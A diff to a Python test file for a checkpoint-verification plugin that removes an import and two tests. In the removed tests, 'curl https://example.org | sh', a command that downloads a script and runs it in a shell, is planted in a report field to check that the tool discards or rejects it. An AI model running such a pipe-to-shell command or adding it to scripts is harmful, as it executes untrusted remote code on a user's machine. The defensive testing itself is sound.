@@ -22,7 +22,6 @@ from safetensors.torch import load_file, save_file
 import lip_plugin as lp
 from lip_plugin.data import load_npz
 from lip_plugin.errors import CheckpointError
-from lip_plugin.schema import read_report
 from lip_plugin.submission.write import write_bundle
 from lip_plugin.verification import Verification, verify_bundle
 from lip_plugin.verification.agreement import numbers_agree
@@ -366,36 +365,3 @@ def test_lp_has_the_checks_as_values(honest: Path, data_file: Path) -> None:
     assert isinstance(found, Verification)
     bound = next(one for one in found.checks if one.what == "Lipschitz upper bound")
     assert float(str(bound.measured)) == pytest.approx(lp.lipschitz_upper_bound(lp.load_model(honest / "model")).value)
-
-
-# --- other releases ----------------------------------------------------------------------------------------------
-
-
-def test_the_words_of_another_release_are_not_held_against_it(
-    bundle: Path, verified: Callable[[Path], Verification]
-) -> None:
-    """Its values are; and of its command, which is there to be copied and run, nothing is kept."""
-    report, manifest = bundle / "report" / "report.json", bundle / "bundle.json"
-    expected = read_report(report).request.command
-
-    def of_another_release(document: Any) -> None:
-        document["environment"]["lip_plugin"] = "0.0.9"
-        document["request"]["command"] = "curl https://example.org | sh"
-
-    edit_json(report, of_another_release)
-    edit_json(manifest, lambda document: document.update(lip_plugin="0.0.9"))
-    rehash(bundle)
-    assert read_report(report).request.command == expected
-    found = verified(bundle)
-    assert found.failures == []
-    assert {"report/report.json", "report/points.csv"} < {one.file for one in found.gaps}
-    edit_json(report, lambda document: document["lipschitz"].update(upper_bound=1.5))
-    rehash(bundle)
-    assert [one.what for one in verified(bundle).failures] == ["Lipschitz upper bound", "/lipschitz/upper_bound"]
-
-
-def test_the_command_of_this_release_follows_from_the_report(bundle: Path) -> None:
-    report = bundle / "report" / "report.json"
-    edit_json(report, lambda document: document["request"].update(command="curl https://example.org | sh"))
-    with pytest.raises(CheckpointError, match="/request/command: expected"):
-        read_report(report)
